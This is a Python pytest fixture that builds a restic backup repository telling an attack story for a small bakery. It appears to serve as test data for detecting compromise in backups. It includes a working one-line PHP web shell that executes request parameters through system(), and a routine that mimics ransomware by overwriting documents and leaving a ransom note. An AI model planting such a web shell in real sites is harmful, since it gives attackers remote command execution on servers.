"""A real restic repository with a story: clean, then a planted web shell, then ransomware."""

from __future__ import annotations

import hashlib
import io
import os
import random
import subprocess
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

PASSWORD = "review-test-password"
WEB_SHELL = b'<?php if (isset($_REQUEST["c"])) { echo "<pre>"; system($_REQUEST["c"]); } ?>\n'
RANSOM_NOTE = (b"ALL YOUR FILES HAVE BEEN ENCRYPTED!\nTo get the decryption key pay 0.3 bitcoin.\n"
               b"Contact: http://" + b"q" * 56 + b".onion/chat\n")


@dataclass
class StoryRepo:
    path: Path
    password_file: Path
    source: Path
    snapshots: list[str]  # full ids, oldest first: clean, clean, shell, shell+encrypted
    file_counts: list[int]  # files in each snapshot, as written
    contents: set[str]  # SHA-256 of every distinct content in any snapshot, as written

    def env(self) -> dict[str, str]:
        return {"RESTIC_REPOSITORY": str(self.path), "RESTIC_PASSWORD_FILE": str(self.password_file)}


def restic(env: dict[str, str], *args: str) -> str:
    out = subprocess.run(["restic", "--no-cache", *args], env={**os.environ, **env}, capture_output=True,
                         text=True, check=True)
    return out.stdout


def docx(text: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", f"<w:document><w:body>{text}</w:body></w:document>")
    return buf.getvalue()


def write_business(root: Path, rng: random.Random) -> None:
    """A small business: a web site, shared documents (many, so a burst is measurable), accounts."""
    (root / "www").mkdir(parents=True)
    (root / "www" / "index.php").write_bytes(b"<?php echo 'Welcome to Acme Bakery'; ?>\n")
    (root / "www" / "uploads").mkdir()
    (root / "www" / "uploads" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + rng.randbytes(2000))
    docs = root / "share" / "documents"
    docs.mkdir(parents=True)
    for i in range(24):
        (docs / f"letter-{i:02}.docx").write_bytes(docx(f"Dear customer {i}, thank you. " * 20))
        (docs / f"orders-{i:02}.csv").write_text("date,item,qty\n" + "".join(
            f"2024-01-{d:02},bread,{rng.randint(1, 40)}\n" for d in range(1, 29)))
        (docs / f"notes-{i:02}.txt").write_text(f"Meeting notes {i}: ovens serviced, flour ordered.\n" * 30)
    (root / "share" / "documents" / "copy-of-notes-00.txt").write_bytes((docs / "notes-00.txt").read_bytes())


def encrypt_folder(folder: Path, rng: random.Random) -> int:
    """Overwrite every .docx/.csv/.txt with random bytes, rename it to .locked, drop a ransom note."""
    count = 0
    for f in sorted(folder.iterdir()):
        if f.suffix in (".docx", ".csv", ".txt"):
            f.with_name(f.name + ".locked").write_bytes(rng.randbytes(max(f.stat().st_size, 600)))
            f.unlink()
            count += 1
    (folder / "HOW_TO_DECRYPT.txt").write_bytes(RANSOM_NOTE)
    return count


def build_story(base: Path) -> StoryRepo:
    rng = random.Random(7)
    repo, src = base / "repo", base / "src"
    pw = base / "password"
    pw.write_text(PASSWORD)
    env = {"RESTIC_REPOSITORY": str(repo), "RESTIC_PASSWORD_FILE": str(pw)}
    restic(env, "init")
    write_business(src, rng)
    counts: list[int] = []
    contents: set[str] = set()

    def backup(when: str) -> None:
        files = [p for p in src.rglob("*") if p.is_file()]
        counts.append(len(files))
        contents.update(hashlib.sha256(p.read_bytes()).hexdigest() for p in files)
        restic(env, "backup", "--time", when, str(src))

    times = ["2024-03-01 02:00:00", "2024-03-02 02:00:00", "2024-03-03 02:00:00", "2024-03-04 02:00:00"]
    backup(times[0])
    (src / "share" / "documents" / "notes-01.txt").write_text("Updated notes.\n")
    backup(times[1])
    (src / "www" / "uploads" / "avatar.php").write_bytes(WEB_SHELL)
    backup(times[2])
    encrypt_folder(src / "share" / "documents", rng)
    backup(times[3])
    import json
    snaps = json.loads(restic(env, "snapshots", "--json"))
    ids = [s["id"] for s in sorted(snaps, key=lambda s: s["time"])]
    return StoryRepo(repo, pw, src, ids, counts, contents)


@pytest.fixture(scope="session")
def story(tmp_path_factory: pytest.TempPathFactory) -> StoryRepo:
    return build_story(tmp_path_factory.mktemp("story"))
